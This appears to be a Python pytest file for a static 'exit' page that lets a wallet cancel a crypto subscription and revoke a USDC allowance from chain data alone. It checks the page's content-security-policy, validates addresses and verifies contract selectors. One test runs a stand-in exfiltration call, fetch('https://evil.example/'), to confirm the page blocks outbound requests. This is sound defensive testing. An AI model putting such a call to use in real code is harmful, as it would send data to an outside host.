"""The exit page: no API, no merchant, no site; chain data alone, through the wallet's own provider."""

import re
from importlib.resources import files
from pathlib import Path

import pytest

from chain.keccak import selector, topic
from tests.web.conftest import Person
from tests.web.test_portal import allowance, subscribed

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.xdist_group("browser")]

FILE = Path(str(files("gateway.web"))) / "assets" / "exit.html"


async def looked(person: Person) -> None:
    await person.page.get_by_role("button", name="Look with Test Wallet").click()


async def revoked(person: Person) -> None:
    await looked(person)
    await person.page.get_by_text("Up to 10.00 USDC every month, to").wait_for()
    await person.look("50-exit-found")
    await person.page.get_by_role("button", name="End this agreement").click()
    await person.page.get_by_text("Done: the network has taken it.").wait_for()
    await person.page.get_by_role("button", name="Take this allowance back").click()
    await person.page.get_by_text("The contract may take").wait_for(state="detached")
    await looked(person)
    await person.page.get_by_text("permits nothing to this contract here").wait_for()
    await person.look("51-exit-nothing")
    assert await allowance(person) == 0


async def test_a_wallet_leaves_from_chain_data_alone_and_the_page_speaks_to_nobody(person: Person) -> None:
    await subscribed(person)
    answer = await person.page.goto(f"{person.shop.url}/exit#{person.shop.stage.contract}")
    assert answer is not None
    assert "connect-src" not in answer.headers["content-security-policy"]
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    asked: list[str] = []
    person.page.on("request", lambda request: asked.append(request.url))
    # A provider that refuses long ranges: the page asks for shorter ones.
    person.wallet.fail("eth_getLogs", -32005, "query returned more than 10000 results")
    await revoked(person)
    assert asked == []
    leak = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
    assert await person.page.evaluate(leak) == "refused"
    await person.shop.work(blocks=3)
    told = await person.shop.found("/v1/mandates?limit=1")
    assert told["data"][0]["status"] == "revoked"


async def test_it_works_as_a_file_when_the_site_is_gone(person: Person) -> None:
    await subscribed(person)
    await person.page.goto(f"{FILE.as_uri()}#{person.shop.stage.contract}")
    await revoked(person)


@pytest.mark.parametrize(("typed", "told"), [("nonsense", "This is not an address"), ("0x" + "1" * 40, "Nobody is at")])
async def test_what_is_no_contract_is_said_in_words(person: Person, typed: str, told: str) -> None:
    await person.page.goto(f"{person.shop.url}/exit")
    await person.page.get_by_label("Address of the payment contract").fill(typed)
    await looked(person)
    await person.is_told(told)
    await person.look(f"52-exit-{typed[:8]}")


async def test_what_the_file_calls_is_what_the_contract_has() -> None:
    text = FILE.read_text(encoding="utf-8")
    calls = dict(re.findall(r'(\w+): "(0x[0-9a-f]{8})"', text))
    signatures = {
        "mandate": "mandate(uint96)",
        "plan": "plan(uint24)",
        "cancel": "cancel(uint96)",
        "allowance": "allowance(address,address)",
        "approve": "approve(address,uint256)",
        "symbol": "symbol()",
        "decimals": "decimals()",
    }
    assert calls == {name: "0x" + selector(signature).hex() for name, signature in signatures.items()}
    assert topic("Subscribed(uint96,address,uint24,uint40,uint16)") in text
    assert topic("Approval(address,address,uint256)") in text
    assert "innerHTML" not in text
    assert "http" not in text.replace("http-equiv", "")
